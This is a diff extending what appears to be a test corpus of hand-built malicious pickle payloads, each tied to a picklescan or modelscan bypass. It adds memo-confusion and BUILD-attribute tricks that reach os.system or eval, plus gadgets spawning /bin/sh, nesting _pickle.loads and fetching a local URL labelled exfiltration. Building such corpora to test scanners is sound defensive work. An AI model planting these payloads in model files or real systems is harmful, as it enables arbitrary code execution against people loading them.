@@ -302,6 +302,66 @@ def _memo(c: Corpus) -> None:
         bypass="picklescan #22 (CTF 'Safe Pickle': memo decoys)",
         what="MEMOIZE of decoy names, dangerous ones fetched back",
     )
+    n = "memo_mixed_put_memoize"
+    _add(
+        c,
+        n,
+        P4
+        + s("os")
+        + binput(0)
+        + s("system")
+        + binput(1)
+        + b"00"
+        + s("torch._utils")
+        + MEMOIZE  # len(memo) is 2: stored at 2, not 0
+        + s("_rebuild_tensor_v2")
+        + MEMOIZE
+        + b"00"
+        + binget(0)
+        + binget(1)
+        + b"\x93"
+        + s(sh(c, n))
+        + b"\x85R.",
+        bypass="picklescan #14 (memo dict confusion: BINPUT mixed with MEMOIZE)",
+        what="BINPUT and MEMOIZE mixed so a naive memo model sees torch._utils",
+    )
+    n = "build_sets_global_attributes"
+    _add(
+        c,
+        n,
+        P4
+        + sg("numpy", "prod")
+        + b"N}" + s("a") + s("os") + b"s" + s("b") + s("system") + b"s\x86b"
+        + b"0"
+        + sg("numpy", "prod.a")
+        + MEMOIZE
+        + sg("numpy", "prod.b")
+        + MEMOIZE
+        + b"00"
+        + binget(0)
+        + binget(1)
+        + b"\x93"
+        + s(sh(c, n))
+        + b"\x85R.",
+        bypass="modelscan #85 (BUILD slot state on a global, read back by dotted names)",
+        what="BUILD stores 'os'/'system' on numpy.prod, STACK_GLOBAL reads them back",
+    )
+    n = "build_global_builtins_shape"
+    _add(
+        c,
+        n,
+        P4
+        + sg("numpy", "size")
+        + MEMOIZE
+        + b"N}" + s("shape") + sg("numpy", "__builtins__") + b"s\x86b"
+        + b"0"
+        + call2(binget(0), binget(0), s("eval"))
+        + s(py(c, n))
+        + b"\x85R.",
+        bypass="modelscan #330 (numpy.size over a planted shape attribute)",
+        what="numpy.size(f, 'eval') after BUILD set f.shape to the builtins namespace",
+        live=False,  # numpy 2 checks the axis type first; numpy 1.x returns eval
+    )
     n = "memo_text_put_get"
     _add(
         c,
@@ -660,6 +720,11 @@ _GADGETS: list[tuple[str, str, str, Callable[[Corpus, str], bytes], str, bool]] 
     ("http_client", "http.client", "HTTPSConnection", lambda c, n: s("127.0.0.1") + b"\x85", "picklescan malicious3", False),
     ("requests_get", "requests.api", "get", lambda c, n: s("http://127.0.0.1:9") + b"\x85", "picklescan malicious4", False),
     ("sys_exit", "sys", "exit", lambda c, n: b"K\x00\x85", "picklescan malicious9", False),
+    ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds", lambda c, n: b(b"/bin/sh") + b"(" + s("sh") + s("-c") + s(sh(c, n)) + b"t)\x87", "modelscan #338", True),
+    ("mlflow_run_entry_point", "mlflow.projects.backend.local", "_run_entry_point", lambda c, n: b"(" + s(sh(c, n)) + s(".") + s("") + b"}t", "modelscan #338", False),
+    ("pandas_read_csv_url", "pandas.io.parsers.readers", "read_csv", lambda c, n: s("http://127.0.0.1:9/x") + b"\x85", "modelscan #338 (exfiltration)", False),
+    ("mailcap_findmatch", "mailcap", "findmatch", lambda c, n: b"}" + s("text/plain") + b"\x86", "modelscan #346", False),
+    ("pickle_module_underscore", "_pickle", "loads", lambda c, n: b(P4 + system(c, n) + STOP) + b"\x85", "modelscan #270 (_pickle)", True),
     ("unittest_main_module", "unittest.__main__", "main", lambda c, n: b")", "-", False),
     ("antigravity_import", "antigravity", "geohash", lambda c, n: b")", "-", False),
     ("logging_config_dict", "logging.config", "dictConfig", lambda c, n: b"}", "-", False),
